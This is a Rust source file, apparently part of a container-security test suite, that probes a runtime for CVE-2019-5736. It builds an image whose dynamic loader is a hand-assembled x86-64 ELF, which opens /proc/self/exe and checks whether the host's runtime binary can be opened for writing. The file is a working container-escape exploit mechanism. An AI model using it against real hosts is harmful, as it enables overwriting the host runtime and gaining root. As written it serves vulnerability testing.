//! The runtime's own program: who may write to it is root on the host, at its next start
//! (CVE-2019-5736).
//!
//! A command that is a link to `/proc/self/exe` is the program that calls exec: the
//! runtime, started once more, inside. That would be harmless if it had not to be linked:
//! the kernel starts the loader that the program names, and finds it in the *container's*
//! root. So the image has a loader of its own, and for that the first thing there is
//! `/proc/self/exe` is a file of the host's.

use std::fs::{self, DirEntry};
use std::io;
use std::os::unix::fs::MetadataExt;
use std::path::Path;

use tar::{Builder, EntryType, Header};

use super::{Sight, failed, flags, hold, sight};
use crate::check::Failure;
use crate::host::Host;
use crate::probe_image;
use crate::procfs;

const IMAGE: &str = "loader";
/// Where programs for this processor say that their loader is.
pub(crate) const LOADER: &str = "/lib64/ld-linux-x86-64.so.2";

/// The loader that the image has: it keeps the program open, puts the true loader back
/// in its own place, and becomes the probe, with the same arguments.
#[rustfmt::skip]
const CODE: &[u8] = &[
    0x48, 0x8d, 0x3d, 0x35, 0x00, 0x00, 0x00, // lea  rdi, "/proc/self/exe"
    0x31, 0xf6,                               // xor  esi, esi: O_RDONLY
    0xb8, 0x02, 0x00, 0x00, 0x00,             // mov  eax, 2: open
    0x0f, 0x05,                               // syscall: it is descriptor 3
    0x48, 0x8d, 0x3d, 0x34, 0x00, 0x00, 0x00, // lea  rdi, "/true"
    0x48, 0x8d, 0x35, 0x33, 0x00, 0x00, 0x00, // lea  rsi, LOADER
    0xb8, 0x52, 0x00, 0x00, 0x00,             // mov  eax, 82: rename
    0x0f, 0x05,                               // syscall
    0x48, 0x8d, 0x3d, 0x41, 0x00, 0x00, 0x00, // lea  rdi, "/bin/probe"
    0x48, 0x8d, 0x74, 0x24, 0x08,             // lea  rsi, [rsp + 8]: the arguments
    0x31, 0xd2,                               // xor  edx, edx: no environment
    0xb8, 0x3b, 0x00, 0x00, 0x00,             // mov  eax, 59: execve
    0x0f, 0x05,                               // syscall
    0x0f, 0x0b,                               // ud2: it has failed
];
const TEXTS: &[u8] = b"/proc/self/exe\0/true\0/lib64/ld-linux-x86-64.so.2\0/bin/probe\0";

pub(crate) fn overwrite(host: &Host, solution: u8) -> Result<Sight, Failure> {
    let host = host
        .with_program_of_its_own()
        .map_err(|why| failed("a copy of the level's program", &why))?;
    let identity = procfs::identity(host.program())?;
    // Level 00 has no image, and every path of the host's.
    let container = if solution == 0 {
        let path = host.program().display().to_string();
        hold(&host, &["overwrite", &path], None)?
    } else {
        host.add_changed_image(IMAGE, hostile_image)?;
        let words = ["try", "overwrite", "/proc/self/fd/3", "then", "hold"];
        let command = [&["/own/probe"][..], &words].concat();
        host.run(&command).image(IMAGE).hold()?
    };
    // The loader has it open as well, but for reading.
    let is_it = |descriptor: &DirEntry| {
        let is_program =
            fs::metadata(descriptor.path()).is_ok_and(|file| (file.dev(), file.ino()) == identity);
        is_program && flags(&container, &descriptor.file_name()).is_some_and(|it| it & 0o3 == 1)
    };
    let entries = fs::read_dir(container.proc("fd")).into_iter().flatten();
    let found = entries.flatten().any(|descriptor| is_it(&descriptor));
    let how = if found { "has" } else { "does not have" };
    let seen = format!(
        "the command {how} {} open for writing",
        host.program().display()
    );
    Ok(sight(&container, found, seen))
}

fn hostile_image(archive: &[u8]) -> io::Result<Vec<u8>> {
    let name = Path::new(LOADER).file_name();
    let true_loader = fs::read(LOADER)?;
    probe_image::rebuild(
        archive,
        |path| path.file_name() != name,
        |tar| {
            add_program(tar, "usr/lib64/ld-linux-x86-64.so.2", &program())?;
            add_program(tar, "true", &true_loader)?;
            probe_image::add_link(tar, "own/probe", Path::new("/proc/self/exe"))
        },
    )
}

fn add_program(tar: &mut Builder<Vec<u8>>, path: &str, program: &[u8]) -> io::Result<()> {
    let mut header = Header::new_gnu();
    header.set_entry_type(EntryType::Regular);
    header.set_mode(0o755);
    header.set_uid(0);
    header.set_gid(0);
    header.set_size(program.len() as u64);
    tar.append_data(&mut header, path, program)
}

/// An executable of one segment, which is all of the file (elf(5)), and a whole page: older
/// kernels clear what is left of a loader's last one, and this one is not to be written to.
fn program() -> Vec<u8> {
    const BASE: u64 = 0x40_0000;
    const HEADERS: u64 = 64 + 56;
    const PAGE: u64 = 0x1000;
    let mut file = Vec::new();
    // 64 bits, little-endian, version 1; an executable, for x86-64.
    file.extend(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0");
    let entry_and_tables = [BASE + HEADERS, 64, 0];
    file.extend(entry_and_tables.iter().flat_map(|it| it.to_le_bytes()));
    // No flags; the size of this header; one program header, and its size; no sections.
    file.extend(b"\0\0\0\0\x40\0\x38\0\x01\0\0\0\0\0\0\0");
    // To be loaded, readable and executable.
    file.extend(b"\x01\0\0\0\x05\0\0\0");
    let segment = [0, BASE, BASE, PAGE, PAGE, PAGE];
    file.extend(segment.iter().flat_map(|it| it.to_le_bytes()));
    file.extend(CODE);
    file.extend(TEXTS);
    file.resize(PAGE as usize, 0);
    file
}
